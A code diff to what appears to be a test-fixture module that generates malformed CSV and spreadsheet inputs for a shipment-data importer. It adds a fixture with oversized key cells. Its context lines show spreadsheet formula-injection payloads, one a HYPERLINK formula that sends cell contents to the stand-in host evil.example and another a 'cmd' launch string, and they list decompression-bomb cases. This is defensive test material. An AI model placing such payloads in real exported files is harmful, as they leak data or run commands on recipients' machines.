@@ -108,6 +108,17 @@ def long_hyphenated_name(directory, size: int = 40_000) -> Path:
     return _write(directory, "long_name.csv", _csv(body))
 
 
+def long_key_cells(directory, size: int = 5_000) -> Path:
+    """Record id, exporter id, country and HS code cells of ``size`` characters, one per row
+    (rows 1 to 4 of 8); the other rows are clean."""
+    body = [shipment_row(i) for i in range(8)]
+    body[1][0] = "H-" + "9" * size
+    body[2][3] = "C" * size
+    body[3][6] = "8" * size
+    body[4][4] = "OOO " + "Ж" * size
+    return _write(directory, "long_keys.csv", _csv(body))
+
+
 def formula_names(directory) -> Path:
     """Names that a spreadsheet would run as formulas."""
     names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -258,7 +269,7 @@ def _rewrite_zip(path: Path, data: bytes, changes: dict) -> Path:
 
 
 CASES = (stray_quote, endless_quoted_cell, big_cell, crlf_lf_mix, nul_bytes, bad_byte, bom_cp1251,
-         long_hyphenated_name, formula_names, bidi_names, extra_key_columns, same_name_two_folders,
+         long_hyphenated_name, long_key_cells, formula_names, bidi_names, extra_key_columns, same_name_two_folders,
          xlsx_sheets, xlsx_huge_dimension, xlsx_far_cell, xlsx_shared_string_bomb, gz_bomb)
 
 
